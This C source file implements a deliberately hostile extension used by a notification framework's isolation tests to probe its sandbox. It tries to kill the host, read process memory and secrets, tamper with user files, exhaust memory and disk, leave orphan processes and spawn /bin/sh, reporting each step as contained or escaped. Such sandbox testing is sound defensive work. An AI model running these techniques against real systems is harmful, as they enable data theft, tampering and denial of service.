/*
 * A hostile extension: it attacks the host, the user and the machine from
 * inside its worker's sandbox, one attack per notification, and says what
 * happened. AttackTests (Tests/TidingsIsolationTests) delivers it.
 *
 * The attack is the notification's userInfo "attack"; its parameters are
 * other userInfo strings (paths, pids, a port, sizes). When the call
 * returns, label "result" of its interface holds the outcome: "contained: …"
 * (each step refused, or bounded, with the reason); "forked: …", "spinning: …"
 * or "made: …" (what it left behind, for the test to look for); or, when a
 * step got through the sandbox, "ESCAPED: …" / "LEAKED: <what it read>"
 * followed by every step's outcome. An attack that ends the worker (a
 * memory or CPU limit, a call storm) leaves no label: the host's fault says
 * what happened.
 *
 * Attacks of the content extension (did_receive_notification):
 *   kill-host          SIGKILL to userInfo "host-pid" (kill, tgkill, pidfd), to
 *                      getppid(), to -1 and to 0
 *   open-host-memory   /proc/<host-pid>/mem read-write and read-only, its
 *                      environ, ptrace attach and seize, process_vm_readv;
 *                      the same against getppid()
 *   read-secret        read "secret" and "notes", list "home", read "config",
 *                      the secret again through /proc/<host-pid>/root; chmod and
 *                      utimensat of the secret
 *   write-ledger       append to, truncate, replace and remove "ledger", "cache"
 *                      and "journal"
 *   connect-socket     a UNIX socket to "socket": notifications.list and
 *                      notifications.remove of "victim" (another app's
 *                      notification); also any inherited socket but the channel
 *   memfd              memfd_create, ftruncate, write and mmap(MAP_SHARED) of
 *                      "bytes" bytes, touching every page
 *   shared-anonymous   mmap(MAP_SHARED | MAP_ANONYMOUS) and MAP_SHARED_VALIDATE of "bytes"
 *   dev-zero           /dev/zero opened read-write, then MAP_SHARED of it
 *                      read-only, every page read (shared memory either way)
 *   fill-tmp           files written to $TMPDIR until it is full or "bytes" were written
 *                      (the four above stop at "limit" bytes and call that an escape:
 *                      nothing that is bounded lets them get that far: memory
 *                      counts when it is resident; touching an eighth more than
 *                      the limit of pages that cost nothing, the zero page's, stops)
 *   fork-and-outlive   a child, a double-forked grandchild after setsid, a
 *                      double-forked one without: all named "hostile-orphan",
 *                      deaf to SIGTERM/SIGHUP/SIGINT, asleep forever
 *   fork-spin          a child named "hostile-spinner" that burns CPU forever
 *                      (its CPU time is not the worker's); one per worker
 *   burn               not an attack: "burn-ms" milliseconds of CPU time, the
 *                      work of a call within its budget
 *   fork-memory        "children" children named "hostile-hog", each touching
 *                      "child-bytes" of private memory (within its own data
 *                      limit), then asleep; an escape when together they hold
 *                      more than "limit" (with those of earlier calls still alive,
 *                      which it counts, and forks no more beyond)
 *   socket-buffers     socket pairs whose send buffers are filled (kernel memory
 *                      no data limit counts) until "limit" bytes are buffered
 *   sysv-ipc           a System V message queue (with a message in it) and a
 *                      semaphore set of key "ipc-key": made, they outlive the
 *                      worker unless an IPC namespace of its own ends with it
 *   inotify-home       an inotify watch on "home"
 *   exec-shell         execve, execveat, posix_spawn and system() of
 *                      /bin/sh -c "touch <marker>"
 *   call-storm         10^6 set_hidden calls on this thread, then 50 threads
 *                      calling set_text 20,000 times each
 *   touch-own-library  utimensat, futimens, fchmod, chmod, append, truncate and rename
 *                      of its own library and Info.plist (found with dladdr)
 *   touch-and-crash    utimensat of its own library and Info.plist, then SIGSEGV
 *   network            socket(AF_INET) and connect to 127.0.0.1:"port";
 *                      AF_INET6, AF_UNIX, AF_NETLINK sockets
 *   dumpable           prctl(PR_SET_DUMPABLE, 1), PR_SET_PTRACER_ANY
 *   cpu-spin-thread    SIGXCPU ignored and blocked, RLIMIT_CPU raised, timers
 *                      deleted, then a thread that spins forever; the call
 *                      returns at once
 *   stderr-forge       10,000 forged "tidings serve: error: …" lines on
 *                      standard error
 *
 * Built with -DHOSTILE_SERVICE it is a service extension instead
 * (did_receive_request), whose attack is:
 *   rewrite-attachment a valid PNG made in $TMPDIR, kept open read-write,
 *                      attached with create_attachment, then rewritten as
 *                      4 MB of non-PNG through that descriptor; the store's
 *                      copy opened with open_attachment and attacked through
 *                      its descriptor (write, ftruncate, reopen read-write via
 *                      /proc/self/fd, fchmod, futimens); the content handed
 *                      back with the attachment, its title the outcome.
 *   store-filler       a valid PNG of "attachment-bytes" bytes (the 1×1 image
 *                      with a tEXt comment of filler, every CRC right) made in
 *                      $TMPDIR and attached, made again (the host moves it in)
 *                      and attached again, until create_attachment refused it
 *                      "refusals" times or "attempts" were made; every
 *                      attachment made is handed back, so that the store keeps
 *                      them. The title counts the attachments, their bytes and
 *                      the refusals with Apple's 104: "contained: …", or
 *                      "ESCAPED: …" when nothing was refused.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <spawn.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "tidings.h"
#include "HostileShared.h"

#ifndef MAP_SHARED_VALIDATE
#define MAP_SHARED_VALIDATE 0x03
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_send_signal
#define SYS_pidfd_send_signal 424
#endif
#ifndef PR_SET_PTRACER_ANY
#define PR_SET_PTRACER_ANY ((unsigned long)-1)
#endif

static const tidings_host *host;

typedef struct hostile {
    tidings_context context;
} hostile;

static void *create(tidings_context context);
static void destroy(void *instance);

/* ---- The report ---------------------------------------------------------- */

/* What the attack did, step by step; `breach` is set by a step that got through. */
typedef struct report {
    char text[12000];
    size_t length;
    const char *breach; /* NULL, "ESCAPED" or "LEAKED" */
    char leaked[512];
} report;

static void note(report *r, const char *format, ...) {
    va_list arguments;
    int written;
    if (r->length + 1 >= sizeof r->text) return;
    va_start(arguments, format);
    written = vsnprintf(r->text + r->length, sizeof r->text - r->length, format, arguments);
    va_end(arguments);
    if (written < 0) return;
    r->length += (size_t)written;
    if (r->length >= sizeof r->text) r->length = sizeof r->text - 1;
}

/* A step that got through: an escape. */
static void escaped(report *r, const char *format, ...) {
    va_list arguments;
    char line[512];
    va_start(arguments, format);
    vsnprintf(line, sizeof line, format, arguments);
    va_end(arguments);
    if (r->breach == NULL) r->breach = "ESCAPED";
    note(r, "%s: ESCAPED; ", line);
}

/* A step whose `result` < 0 means refused (errno says why), anything else an escape. */
static void expect_refused(report *r, const char *what, long result) {
    if (result < 0) {
        note(r, "%s: refused: %s; ", what, strerror(errno));
    } else {
        escaped(r, "%s (returned %ld)", what, result);
    }
}

/* ---- userInfo ------------------------------------------------------------- */


/* A date long past, for the timestamps an attacker would like to set. */
static const struct timespec year_2001[2] = {{978307200, 0}, {978307200, 0}};

#ifndef HOSTILE_SERVICE

/* A step that read what it must not: a leak, with what it read (made printable). */
static void leaked(report *r, const char *what, const char *data, size_t size) {
    size_t at = 0, index;
    r->breach = "LEAKED";
    for (index = 0; index < size && at + 2 < sizeof r->leaked; index++) {
        unsigned char c = (unsigned char)data[index];
        r->leaked[at++] = c >= 32 && c < 127 ? (char)c : '.';
    }
    r->leaked[at] = 0;
    note(r, "%s: LEAKED %zu bytes; ", what, size);
}

/* The text the label shows. */
static void finish(report *r, hostile *self, const char *verdict) {
    char label[TIDINGS_MAX_TEXT_BYTES];
    if (r->breach != NULL) {
        snprintf(label, sizeof label, "%s: %s%s%s", r->breach, r->leaked[0] ? r->leaked : "",
                 r->leaked[0] ? " | " : "", r->text);
    } else {
        snprintf(label, sizeof label, "%s: %s", verdict, r->text);
    }
    host->set_text(self->context, "result", label);
}

static long long number(const tidings_content *content, const char *key, long long otherwise) {
    const char *text = user_info(content, key);
    return text != NULL ? strtoll(text, NULL, 10) : otherwise;
}

/* ---- Helpers -------------------------------------------------------------- */

/* Reads up to `capacity` bytes of the file at `path`; the count, or -1 with errno. */
static ssize_t read_file(const char *path, char *buffer, size_t capacity) {
    int file = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t count;
    if (file < 0) return -1;
    count = read(file, buffer, capacity);
    close(file);
    return count;
}

/* Tries to read `path`; a read is a leak. */
static void try_read(report *r, const char *what, const char *path) {
    char buffer[256];
    ssize_t count;
    if (path == NULL) return;
    count = read_file(path, buffer, sizeof buffer);
    if (count < 0) {
        note(r, "%s: refused: %s; ", what, strerror(errno));
    } else {
        leaked(r, what, buffer, (size_t)count);
    }
}

/* Sleeps forever, deaf to the polite signals. */
static void sleep_forever(const char *name) {
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    prctl(PR_SET_NAME, (unsigned long)name, 0, 0, 0);
    for (;;) pause();
}

/* ---- The attacks ---------------------------------------------------------- */

static void kill_host(report *r, const tidings_content *content) {
    pid_t target = (pid_t)number(content, "host-pid", 0);
    char what[96];
    if (target > 0) {
        int pidfd;
        snprintf(what, sizeof what, "kill(host %d)", (int)target);
        expect_refused(r, what, kill(target, SIGKILL));
        snprintf(what, sizeof what, "tgkill(host %d)", (int)target);
        expect_refused(r, what, syscall(SYS_tgkill, target, target, SIGKILL));
        pidfd = (int)syscall(SYS_pidfd_open, target, 0);
        snprintf(what, sizeof what, "pidfd_open(host %d)", (int)target);
        expect_refused(r, what, pidfd);
        if (pidfd >= 0) {
            expect_refused(r, "pidfd_send_signal", syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0));
            close(pidfd);
        }
    }
    snprintf(what, sizeof what, "kill(getppid() %d)", (int)getppid());
    expect_refused(r, what, kill(getppid(), SIGKILL));
    expect_refused(r, "kill(-1)", kill(-1, SIGKILL));
    /* The worker's own process group: the host's, were it not the sandbox's. */
    expect_refused(r, "kill(0)", kill(0, SIGKILL));
}

static void open_memory_of(report *r, pid_t target, const char *whose) {
    char path[64], what[96], buffer[256];
    int file;
    ssize_t count;
    struct iovec local, remote;
    long result;
    snprintf(path, sizeof path, "/proc/%d/mem", (int)target);
    file = open(path, O_RDWR | O_CLOEXEC);
    snprintf(what, sizeof what, "open(%s mem, O_RDWR)", whose);
    expect_refused(r, what, file);
    if (file >= 0) close(file);
    file = open(path, O_RDONLY | O_CLOEXEC);
    snprintf(what, sizeof what, "open(%s mem, O_RDONLY)", whose);
    expect_refused(r, what, file);
    if (file >= 0) close(file);
    snprintf(path, sizeof path, "/proc/%d/environ", (int)target);
    snprintf(what, sizeof what, "read(%s environ)", whose);
    count = read_file(path, buffer, sizeof buffer);
    if (count < 0) {
        note(r, "%s: refused: %s; ", what, strerror(errno));
    } else if (count > 0) {
        leaked(r, what, buffer, (size_t)count);
    } else {
        note(r, "%s: empty; ", what);
    }
    snprintf(what, sizeof what, "ptrace(ATTACH %s)", whose);
    result = ptrace(PTRACE_ATTACH, target, NULL, NULL);
    expect_refused(r, what, result);
    if (result == 0) ptrace(PTRACE_DETACH, target, NULL, NULL);
    snprintf(what, sizeof what, "ptrace(SEIZE %s)", whose);
    result = ptrace(PTRACE_SEIZE, target, NULL, NULL);
    expect_refused(r, what, result);
    if (result == 0) ptrace(PTRACE_DETACH, target, NULL, NULL);
    /* Any answer but a refusal means the kernel let this process at the target's memory. */
    local.iov_base = buffer;
    local.iov_len = 16;
    remote.iov_base = (void *)(uintptr_t)0x400000;
    remote.iov_len = 16;
    snprintf(what, sizeof what, "process_vm_readv(%s)", whose);
    result = (long)process_vm_readv(target, &local, 1, &remote, 1, 0);
    if (result < 0 && (errno == EPERM || errno == EACCES || errno == ESRCH)) {
        note(r, "%s: refused: %s; ", what, strerror(errno));
    } else {
        escaped(r, "%s (returned %ld, %s)", what, result, result < 0 ? strerror(errno) : "read");
    }
}

static void open_host_memory(report *r, const tidings_content *content) {
    pid_t target = (pid_t)number(content, "host-pid", 0);
    if (target > 0) open_memory_of(r, target, "host");
    if (getppid() > 1) open_memory_of(r, getppid(), "parent");
}

static void read_secret(report *r, const tidings_content *content) {
    const char *secret = user_info(content, "secret");
    const char *home = user_info(content, "home");
    const char *host_pid = user_info(content, "host-pid");
    char path[4096];
    struct stat status;
    try_read(r, "read(secret)", secret);
    try_read(r, "read(notes)", user_info(content, "notes"));
    try_read(r, "read(config)", user_info(content, "config"));
    if (home != NULL) {
        DIR *directory = opendir(home);
        if (directory == NULL) {
            note(r, "opendir(home): refused: %s; ", strerror(errno));
        } else {
            char names[256] = "";
            struct dirent *entry;
            while ((entry = readdir(directory)) != NULL) {
                if (strlen(names) + strlen(entry->d_name) + 2 < sizeof names) {
                    strcat(names, entry->d_name);
                    strcat(names, " ");
                }
            }
            closedir(directory);
            leaked(r, "opendir(home)", names, strlen(names));
        }
    }
    if (secret != NULL && host_pid != NULL) {
        snprintf(path, sizeof path, "/proc/%s/root%s", host_pid, secret);
        try_read(r, "read(/proc/host/root/secret)", path);
    }
    if (secret != NULL) {
        /* Its metadata: not its content, but no business of the extension's either. */
        if (stat(secret, &status) == 0) {
            note(r, "stat(secret): visible (mode %o, %lld bytes); ", (unsigned)(status.st_mode & 07777),
                 (long long)status.st_size);
        } else {
            note(r, "stat(secret): refused: %s; ", strerror(errno));
        }
        expect_refused(r, "chmod(secret, 0644)", chmod(secret, 0644));
        expect_refused(r, "utimensat(secret)", utimensat(AT_FDCWD, secret, year_2001, 0));
    }
}

static void attack_file(report *r, const char *name, const char *path) {
    static const char marker[] = "HOSTILE-WROTE-THIS\n";
    char what[96], other[4096];
    int file;
    if (path == NULL) return;
    file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    snprintf(what, sizeof what, "append(%s)", name);
    if (file < 0) {
        note(r, "%s: refused: %s; ", what, strerror(errno));
    } else {
        expect_refused(r, what, write(file, marker, sizeof marker - 1));
        close(file);
    }
    file = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    snprintf(what, sizeof what, "open(%s, O_TRUNC)", name);
    expect_refused(r, what, file);
    if (file >= 0) close(file);
    snprintf(what, sizeof what, "truncate(%s)", name);
    expect_refused(r, what, truncate(path, 0));
    snprintf(other, sizeof other, "%s.hostile", path);
    file = open(other, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    snprintf(what, sizeof what, "create beside %s", name);
    expect_refused(r, what, file);
    if (file >= 0) {
        if (write(file, marker, sizeof marker - 1) < 0) { /* the creation was the escape */ }
        close(file);
        snprintf(what, sizeof what, "rename over %s", name);
        expect_refused(r, what, rename(other, path));
    }
    snprintf(what, sizeof what, "unlink(%s)", name);
    expect_refused(r, what, unlink(path));
}

static void write_ledger(report *r, const tidings_content *content) {
    attack_file(r, "ledger", user_info(content, "ledger"));
    attack_file(r, "cache", user_info(content, "cache"));
    attack_file(r, "journal", user_info(content, "journal"));
}

/* Sends the two requests on `connection` and reports any answer as a leak. */
static void talk_to_server(report *r, int connection, const char *what, const char *victim) {
    char request[1024], answer[4096];
    struct pollfd ready;
    ssize_t count, total = 0;
    snprintf(request, sizeof request,
             "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"notifications.list\"}\n"
             "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"notifications.remove\",\"params\":{\"identifiers\":[\"%s\"]}}\n",
             victim != NULL ? victim : "none");
    if (send(connection, request, strlen(request), MSG_NOSIGNAL) < 0) {
        note(r, "%s send: refused: %s; ", what, strerror(errno));
        return;
    }
    ready.fd = connection;
    ready.events = POLLIN;
    while (total < (ssize_t)sizeof answer - 1 && poll(&ready, 1, 1000) > 0) {
        count = recv(connection, answer + total, sizeof answer - 1 - (size_t)total, 0);
        if (count <= 0) break;
        total += count;
    }
    if (total > 0) {
        leaked(r, what, answer, (size_t)total);
    } else {
        note(r, "%s: no answer; ", what);
    }
}

static void connect_socket(report *r, const tidings_content *content) {
    const char *path = user_info(content, "socket");
    const char *victim = user_info(content, "victim");
    int connection, file, inherited = 0;
    connection = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    expect_refused(r, "socket(AF_UNIX)", connection);
    if (connection >= 0 && path != NULL) {
        struct sockaddr_un address;
        memset(&address, 0, sizeof address);
        address.sun_family = AF_UNIX;
        snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
        if (connect(connection, (struct sockaddr *)&address, sizeof address) < 0) {
            note(r, "connect(server): refused: %s; ", strerror(errno));
        } else {
            escaped(r, "connect(server)");
            talk_to_server(r, connection, "server", victim);
        }
    }
    if (connection >= 0) close(connection);
    /* A socket inherited from the host (but the worker's own channel, 3) would be a way in. */
    for (file = 0; file < 1024; file++) {
        struct stat status;
        if (file == 3 || fstat(file, &status) != 0 || !S_ISSOCK(status.st_mode)) continue;
        inherited++;
        talk_to_server(r, file, "inherited socket", victim);
    }
    note(r, "inherited sockets besides the channel: %d; ", inherited);
}

/* This process's resident private and shared memory (RssAnon + RssShmem), in bytes; 0 when unknown. */
static unsigned long long resident(void) {
    char text[4096], *line;
    unsigned long long total = 0;
    ssize_t count = read_file("/proc/self/status", text, sizeof text - 1);
    if (count <= 0) return 0;
    text[count] = 0;
    for (line = text; line != NULL; line = strchr(line, '\n')) {
        if (*line == '\n') line++;
        if (strncmp(line, "RssAnon:", 8) == 0 || strncmp(line, "RssShmem:", 9) == 0) {
            total += strtoull(strchr(line, ':') + 1, NULL, 10) << 10;
        }
    }
    return total;
}

/* Touches up to `size` bytes at `memory` a page at a time (writing, or reading when
 * `read_only`). Resident memory past `limit` is an escape; touching an eighth more than
 * the limit without getting there shows that the pages cost nothing (the zero page), and stops. */
static void touch(report *r, const char *what, volatile char *memory, unsigned long long size,
                  unsigned long long limit, int read_only) {
    unsigned long long at, held = 0;
    volatile char sink = 0;
    for (at = 0; at < size && at < limit + limit / 8; at += 4096) {
        if ((at & ((4 << 20) - 1)) == 0 && (held = resident()) >= limit) {
            escaped(r, "%s: %llu MiB resident after %llu MiB touched, past the limit of %llu MiB", what, held >> 20,
                    at >> 20, limit >> 20);
            return;
        }
        if (read_only) {
            sink = (char)(sink + memory[at]);
        } else {
            memory[at] = 1;
        }
    }
    (void)sink;
    note(r, "%s: %llu MiB touched, %llu MiB resident; ", what, at >> 20, resident() >> 20);
}

static void memfd(report *r, unsigned long long size, unsigned long long limit) {
    int file = memfd_create("hostile", MFD_CLOEXEC);
    expect_refused(r, "memfd_create", file);
    if (file < 0) return;
    if (ftruncate(file, (off_t)size) < 0) {
        note(r, "ftruncate(memfd): refused: %s; ", strerror(errno));
    } else {
        void *memory = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
        if (memory == MAP_FAILED) {
            note(r, "mmap(memfd, MAP_SHARED): refused: %s; ", strerror(errno));
        } else {
            touch(r, "memfd mapping", memory, size, limit, 0);
            munmap(memory, (size_t)size);
        }
    }
    {
        /* And written rather than mapped. */
        static char chunk[1 << 20];
        unsigned long long written = 0;
        memset(chunk, 0x5A, sizeof chunk);
        if (ftruncate(file, 0) == 0) {
            while (written < size && written < limit && pwrite(file, chunk, sizeof chunk, (off_t)written) > 0) {
                written += sizeof chunk;
            }
            if (written >= limit) {
                escaped(r, "write(memfd): %llu MiB", written >> 20);
            } else {
                note(r, "write(memfd): stopped at %llu MiB: %s; ", written >> 20, strerror(errno));
            }
        }
    }
    close(file);
}

static void shared_anonymous(report *r, unsigned long long size, unsigned long long limit) {
    void *memory = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED) {
        note(r, "mmap(MAP_SHARED|MAP_ANONYMOUS): refused: %s; ", strerror(errno));
    } else {
        escaped(r, "mmap(MAP_SHARED|MAP_ANONYMOUS) mapped");
        touch(r, "shared anonymous", memory, size, limit, 0);
        munmap(memory, (size_t)size);
    }
    memory = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED_VALIDATE | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED) {
        note(r, "mmap(MAP_SHARED_VALIDATE|MAP_ANONYMOUS): refused: %s; ", strerror(errno));
    } else {
        escaped(r, "mmap(MAP_SHARED_VALIDATE|MAP_ANONYMOUS) mapped");
        touch(r, "shared anonymous (validate)", memory, size, limit, 0);
        munmap(memory, (size_t)size);
    }
}

static void dev_zero(report *r, unsigned long long size, unsigned long long limit) {
    int file = open("/dev/zero", O_RDWR | O_CLOEXEC);
    void *memory;
    if (file >= 0) {
        memory = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
        if (memory == MAP_FAILED) {
            note(r, "mmap(/dev/zero rw, MAP_SHARED): refused: %s; ", strerror(errno));
        } else {
            touch(r, "/dev/zero shared, written", memory, size, limit, 0);
            munmap(memory, (size_t)size);
        }
        close(file);
    } else {
        note(r, "open(/dev/zero, O_RDWR): refused: %s; ", strerror(errno));
    }
    file = open("/dev/zero", O_RDONLY | O_CLOEXEC);
    if (file < 0) {
        note(r, "open(/dev/zero, O_RDONLY): refused: %s; ", strerror(errno));
        return;
    }
    memory = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (memory == MAP_FAILED) {
        note(r, "mmap(/dev/zero ro, PROT_WRITE, MAP_SHARED): refused: %s; ", strerror(errno));
    } else {
        touch(r, "/dev/zero ro shared, written", memory, size, limit, 0);
        munmap(memory, (size_t)size);
    }
    /* Shared memory read into existence: every page read is a page of shmem. */
    memory = mmap(NULL, (size_t)size, PROT_READ, MAP_SHARED, file, 0);
    if (memory == MAP_FAILED) {
        note(r, "mmap(/dev/zero ro, PROT_READ, MAP_SHARED): refused: %s; ", strerror(errno));
    } else {
        touch(r, "/dev/zero shared, read", memory, size, limit, 1);
        munmap(memory, (size_t)size);
    }
    close(file);
}

static void fill_tmp(report *r, unsigned long long size, unsigned long long limit) {
    static char chunk[1 << 20];
    const char *directory = getenv("TMPDIR");
    char path[4096];
    unsigned long long written = 0;
    int file, files = 0;
    memset(chunk, 0x5A, sizeof chunk);
    if (directory == NULL) directory = "/tmp";
    while (written < size && written < limit) {
        ssize_t count;
        snprintf(path, sizeof path, "%s/hostile-fill-%d", directory, files++);
        file = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (file < 0) break;
        count = 0;
        while (written < size && written < limit && count < (ssize_t)(64 << 20)) {
            ssize_t once = write(file, chunk, sizeof chunk);
            if (once <= 0) break;
            count += once;
            written += (unsigned long long)once;
        }
        close(file);
        if (count < (ssize_t)(64 << 20) && written < size && written < limit) break;
    }
    if (written >= limit) {
        escaped(r, "fill %s: %llu MiB written, past the limit of %llu MiB", directory, written >> 20, limit >> 20);
    } else {
        note(r, "fill %s: stopped at %llu MiB: %s; ", directory, written >> 20, strerror(errno));
    }
}

static void fork_and_outlive(report *r) {
    pid_t child, middle;
    int started = 0;
    child = fork();
    if (child == 0) sleep_forever("hostile-orphan");
    if (child > 0) {
        started++;
        note(r, "child %d asleep; ", (int)child);
    } else {
        note(r, "fork: refused: %s; ", strerror(errno));
    }
    /* Double fork after setsid: a daemon's way out. */
    middle = fork();
    if (middle == 0) {
        setsid();
        if (fork() == 0) sleep_forever("hostile-orphan");
        _exit(0);
    }
    if (middle > 0) {
        waitpid(middle, NULL, 0);
        started++;
    }
    /* Double fork without setsid. */
    middle = fork();
    if (middle == 0) {
        if (fork() == 0) sleep_forever("hostile-orphan");
        _exit(0);
    }
    if (middle > 0) {
        waitpid(middle, NULL, 0);
        started++;
    }
    note(r, "%d processes named hostile-orphan left behind; ", started);
}

static void fork_spin(report *r) {
    /* One spinner per worker is enough to show it, and spares the machine. */
    static pid_t spinner = 0;
    pid_t child;
    if (spinner > 0 && waitpid(spinner, NULL, WNOHANG) == 0) {
        note(r, "hostile-spinner %d still spins; ", (int)spinner);
        return;
    }
    spinner = child = fork();
    if (child == 0) {
        volatile unsigned long spins = 0;
        prctl(PR_SET_NAME, (unsigned long)"hostile-spinner", 0, 0, 0);
        for (;;) spins++;
    }
    if (child > 0) {
        note(r, "hostile-spinner %d spins; ", (int)child);
    } else {
        note(r, "fork: refused: %s; ", strerror(errno));
    }
}

static void fork_memory(report *r, const tidings_content *content) {
    /* The children of every call so far, and the MiB each said it holds. */
    static pid_t pids[256];
    static unsigned mebibytes[256];
    static long started = 0;
    long children = (long)number(content, "children", 16);
    unsigned long long each = (unsigned long long)number(content, "child-bytes", 24 << 20);
    unsigned long long limit = (unsigned long long)number(content, "limit", 128LL << 20);
    unsigned long long held;
    int ends[2], status;
    long index, forked = 0, alive;
    pid_t ended;
    if (pipe(ends) < 0) {
        note(r, "pipe: %s; ", strerror(errno));
        return;
    }
    /* The dead (the OOM killer's victims) hold nothing. */
    while ((ended = waitpid(-1, &status, WNOHANG)) > 0) {
        for (index = 0; index < started; index++) {
            if (pids[index] == ended) mebibytes[index] = 0;
        }
    }
    held = 0;
    for (index = 0; index < started; index++) held += (unsigned long long)mebibytes[index] << 20;
    for (index = 0; index < children && started < 256 && held < limit; index++) {
        pid_t child = fork();
        if (child < 0) {
            note(r, "fork %ld: refused: %s; ", index, strerror(errno));
            break;
        }
        if (child == 0) {
            /* A MiB at a time, each told to the parent once touched, until its own data limit. */
            unsigned long long got;
            unsigned char name = (unsigned char)started;
            close(ends[0]);
            for (got = 0; got < each; got += 1 << 20) {
                char *memory = malloc(1 << 20);
                if (memory == NULL) break;
                memset(memory, 1, 1 << 20);
                if (write(ends[1], &name, 1) < 0) break;
            }
            close(ends[1]);
            sleep_forever("hostile-hog");
        }
        pids[started] = child;
        mebibytes[started] = 0;
        started++;
        forked++;
        held += each;
    }
    close(ends[1]);
    /* Until every child is done: asleep with its pipe end closed, or dead. */
    for (;;) {
        unsigned char name;
        ssize_t count = read(ends[0], &name, 1);
        if (count <= 0) break;
        if (name < started) mebibytes[name]++;
    }
    close(ends[0]);
    while ((ended = waitpid(-1, &status, WNOHANG)) > 0) {
        for (index = 0; index < started; index++) {
            if (pids[index] == ended) mebibytes[index] = 0;
        }
    }
    held = 0;
    alive = 0;
    for (index = 0; index < started; index++) {
        held += (unsigned long long)mebibytes[index] << 20;
        if (mebibytes[index] > 0) alive++;
    }
    if (held >= limit) {
        escaped(r, "%ld children alive (%ld forked now) hold %llu MiB, past the limit of %llu MiB", alive, forked,
                held >> 20, limit >> 20);
    } else {
        note(r, "%ld of %ld children alive hold %llu MiB; ", alive, started, held >> 20);
    }
}

/* Kernel memory no limit counts: socket pairs' send buffers, filled. */
static void socket_buffers(report *r, unsigned long long limit) {
    static char chunk[1 << 16];
    unsigned long long buffered = 0;
    int pairs = 0, size = 8 << 20;
    memset(chunk, 0x5A, sizeof chunk);
    while (buffered < limit) {
        int ends[2];
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0, ends) < 0) {
            note(r, "socketpair %d: refused: %s; ", pairs, strerror(errno));
            break;
        }
        pairs++;
        setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
        for (;;) {
            ssize_t count = send(ends[0], chunk, sizeof chunk, MSG_NOSIGNAL);
            if (count <= 0) break;
            buffered += (unsigned long long)count;
        }
        /* Both ends stay open: the bytes stay in the kernel. */
    }
    if (buffered >= limit) {
        escaped(r, "%d socket pairs buffer %llu MiB, past the limit of %llu MiB", pairs, buffered >> 20, limit >> 20);
    } else {
        note(r, "%d socket pairs buffer %llu MiB; ", pairs, buffered >> 20);
    }
}

/* System V message queues and semaphores: not counted, and they outlive their maker
 * unless an IPC namespace of its own goes with it. */
static void sysv_ipc(report *r, const tidings_content *content) {
    key_t key = (key_t)number(content, "ipc-key", 0x486f7374);
    struct {
        long type;
        char text[4096];
    } message;
    int queue = msgget(key, IPC_CREAT | 0666), semaphores;
    if (queue < 0) {
        note(r, "msgget: refused: %s; ", strerror(errno));
    } else {
        message.type = 1;
        memset(message.text, 'M', sizeof message.text);
        if (msgsnd(queue, &message, sizeof message.text, IPC_NOWAIT) == 0) {
            note(r, "msgget: queue %d made, a message left in it; ", queue);
        } else {
            note(r, "msgget: queue %d made, msgsnd: %s; ", queue, strerror(errno));
        }
    }
    semaphores = semget(key, 1, IPC_CREAT | 0666);
    if (semaphores < 0) {
        note(r, "semget: refused: %s; ", strerror(errno));
    } else {
        note(r, "semget: set %d made; ", semaphores);
    }
}

/* A watch on the user's home: the names of the files made and opened there, as they come. */
static void inotify_home(report *r, const tidings_content *content) {
    const char *home = user_info(content, "home");
    int watcher = inotify_init1(IN_CLOEXEC | IN_NONBLOCK), watch;
    if (watcher < 0) {
        note(r, "inotify_init1: refused: %s; ", strerror(errno));
        return;
    }
    if (home == NULL) return;
    watch = inotify_add_watch(watcher, home, IN_ALL_EVENTS);
    if (watch < 0) {
        note(r, "inotify_add_watch(home): refused: %s; ", strerror(errno));
    } else {
        escaped(r, "inotify_add_watch(home) watches the user's home");
    }
    close(watcher);
}

static void exec_shell(report *r, const tidings_content *content) {
    const char *marker = user_info(content, "marker");
    char command[4200];
    char *arguments[4];
    pid_t child;
    int status, spawned;
    if (marker == NULL) marker = "/tmp/hostile-marker";
    snprintf(command, sizeof command, "touch '%s'", marker);
    arguments[0] = "sh";
    arguments[1] = "-c";
    arguments[2] = command;
    arguments[3] = NULL;
    expect_refused(r, "execve(/bin/sh)", execve("/bin/sh", arguments, environ));
    expect_refused(r, "execveat(/bin/sh)", syscall(SYS_execveat, AT_FDCWD, "/bin/sh", arguments, environ, 0));
    spawned = posix_spawn(&child, "/bin/sh", NULL, NULL, arguments, environ);
    if (spawned != 0) {
        note(r, "posix_spawn: refused: %s; ", strerror(spawned));
